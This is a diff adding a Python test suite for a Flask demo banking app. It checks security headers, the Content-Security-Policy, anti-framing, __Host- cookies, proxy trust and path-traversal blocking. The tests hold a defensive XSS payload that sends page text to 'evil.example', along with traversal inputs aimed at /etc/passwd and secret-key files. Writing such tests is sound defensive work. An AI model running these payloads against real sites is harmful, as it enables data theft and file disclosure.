@@ -1,0 +1,118 @@
+"""What browsers may do with an answer, and who is believed about where a visitor came from."""
+
+import re
+
+import pytest
+from conftest import CDN, ROOT, MakeApp
+from flask.testing import FlaskClient
+from pages import SAMPLES, opened, record, rows
+from playwright.sync_api import Page, expect
+from test_api import cookies, own, problem
+from test_api import record as post
+
+from server.headers import HEADERS, POLICY
+
+HTTPS = {"X-Forwarded-Proto": "https", "X-Forwarded-Host": "bank.example"}
+
+
+@pytest.mark.parametrize(
+    "path", ["/", "/api/balances", "/api/docs", "/client/app.js", "/api/nothing", "/nothing"]
+)
+def test_every_answer_has_them(client: FlaskClient, path: str) -> None:
+    answer = client.get(path, buffered=True)
+    assert HEADERS.items() <= dict(answer.headers).items()
+    assert set(answer.headers["Cache-Control"].split(", ")) == {"private", "no-cache"}
+
+
+def test_the_policy_names_each_source_and_no_other() -> None:
+    page = (ROOT / "client" / "index.html").read_text()
+    (scripts,) = (rule for rule in POLICY if rule.startswith("script-src "))
+    named = [source for source in scripts.split() if source.startswith("https:")]
+    assert named == re.findall(rf'src="({CDN}[^"]+)"', page)
+    assert scripts.split()[:3] == ["script-src", "'self'", "'unsafe-eval'"]
+    assert "unsafe-inline" not in "".join(POLICY)
+
+
+def test_the_page_works_under_it_and_nothing_else_does(page: Page, url: str) -> None:
+    blocked: list[str] = []
+    page.on("console", lambda message: blocked.append(message.text))
+    record(opened(page, url), "5")
+    page.get_by_label("Bitcoin").check()
+    assert blocked == []
+    page.evaluate("""() => {
+        const script = document.createElement("script");
+        script.textContent = "window.hacked = true";
+        document.body.append(script);
+        const image = document.createElement("img");
+        image.setAttribute("onerror", "window.hacked = true");
+        image.src = "https://evil.example/?" + document.body.textContent;
+        document.body.append(image);
+        document.body.setAttribute("style", "color: red");
+    }""")
+    expect(rows(page)).to_have_count(SAMPLES + 1)
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.hacked") is None
+    assert page.evaluate("getComputedStyle(document.body).color") != "rgb(255, 0, 0)"
+    assert len(blocked) >= 3
+
+
+def test_no_page_may_frame_it(page: Page, url: str) -> None:
+    page.route("**/frame", lambda route: route.fulfill(body=f"<iframe src='{url}/'></iframe>"))
+    page.goto(f"{url.replace('127.0.0.1', 'localhost')}/frame")
+    page.wait_for_timeout(200)
+    assert "Good Bank" not in (page.frames[1].locator("body").inner_text())
+
+
+# Cookies, by way of https and of proxies
+
+
+def test_over_https_the_cookie_belongs_to_the_host_alone(client: FlaskClient) -> None:
+    (cookie,) = cookies(client.get("/", base_url="https://localhost", buffered=True))
+    parts = cookie.split("; ")
+    assert parts[0].startswith("__Host-good_bank=")
+    assert {"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} <= set(parts)
+    assert not any(part.startswith("Domain") for part in parts)
+    (plain,) = cookies(client.get("/", buffered=True))
+    assert plain.startswith("good_bank=")
+
+
+def test_over_https_a_cookie_that_another_host_could_set_is_not_read(make_app: MakeApp) -> None:
+    client = make_app().test_client(use_cookies=False)
+    cookie = cookies(post(client))[0].partition(";")[0]
+    assert len(own(client.get("/api/balances", headers={"Cookie": cookie}))) == 1
+    answer = client.get("/api/balances", headers={"Cookie": cookie}, base_url="https://localhost")
+    assert own(answer) == []
+
+
+def test_a_trusted_proxy_says_where_the_visitor_came_from(make_app: MakeApp) -> None:
+    client = make_app(TRUSTED_PROXIES=1).test_client()
+    answer = client.post(
+        "/api/update", json={"balance": "1"}, headers=HTTPS | {"Origin": "https://bank.example"}
+    )
+    assert len(own(answer)) == 1
+    assert cookies(answer)[0].startswith("__Host-good_bank=")
+    problem(client.delete("/api/balances", headers=HTTPS | {"Origin": "http://localhost"}), 403)
+
+
+def test_nobody_is_trusted_unless_told(client: FlaskClient) -> None:
+    (cookie,) = cookies(client.get("/", headers=HTTPS, buffered=True))
+    assert cookie.startswith("good_bank=")
+    origin = {"Origin": "https://bank.example"}
+    problem(client.delete("/api/balances", headers=HTTPS | origin), 403)
+
+
+# Files
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/client/../server/api.py",
+        "/client/%2e%2e/README.md",
+        "/client/..%2f..%2fetc/passwd",
+        "/client/",
+    ]
+    + ["/server/api.py", "/instance/secret-key", "/.git/config", "/client/vendor/../../Makefile"],
+)
+def test_nothing_but_the_clients_files_is_served(client: FlaskClient, path: str) -> None:
+    problem(client.get(path), 404)
